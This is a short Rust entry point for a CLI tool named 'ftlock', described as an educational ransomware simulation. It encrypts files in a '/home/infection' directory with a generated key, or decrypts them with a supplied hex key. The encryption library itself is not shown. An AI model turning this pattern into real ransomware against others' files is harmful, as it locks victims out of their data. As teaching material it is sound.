use clap::Parser;
use ftlock::{Key, Locker};
use std::path::PathBuf;
use std::process::ExitCode;
use tracing_subscriber::EnvFilter;

/// Directory the simulation operates on by default
const INFECTION_DIR: &str = "/home/infection";

/// Educational ransomware simulation.
///
/// Without flags, encrypts target files in the infection directory and
/// writes the key to `encryption_key.txt`; with `--reverse <KEY>`,
/// decrypts them again.
#[derive(Debug, Parser)]
#[command(name = "ftlock", version, about)]
struct Cli {
    /// Decrypt files using the provided 64-character hexadecimal key
    #[arg(short = 'r', long = "reverse", value_name = "KEY")]
    reverse: Option<String>,

    /// Suppress progress output (fatal errors are still reported)
    #[arg(short, long)]
    silent: bool,

    /// Directory to operate on
    #[arg(long, value_name = "DIR", default_value = INFECTION_DIR)]
    path: PathBuf,
}

#[tokio::main]
async fn main() -> ExitCode {
    let cli = Cli::parse();

    tracing_subscriber::fmt()
        .with_env_filter(
            EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("info")),
        )
        .init();

    match run(cli).await {
        Ok(()) => ExitCode::SUCCESS,
        Err(err) => {
            // fatal errors reach stderr even under --silent
            eprintln!("Error: {err}");
            ExitCode::FAILURE
        }
    }
}

async fn run(cli: Cli) -> ftlock::Result<()> {
    match cli.reverse {
        Some(hex_key) => {
            // validate the key in full before any file is touched
            let key = Key::from_hex(hex_key.trim())?;
            Locker::new(cli.path, key, cli.silent).unlock().await?;
        }
        None => {
            let key = Key::generate()?;
            Locker::new(cli.path, key, cli.silent).lock().await?;
        }
    }
    Ok(())
}
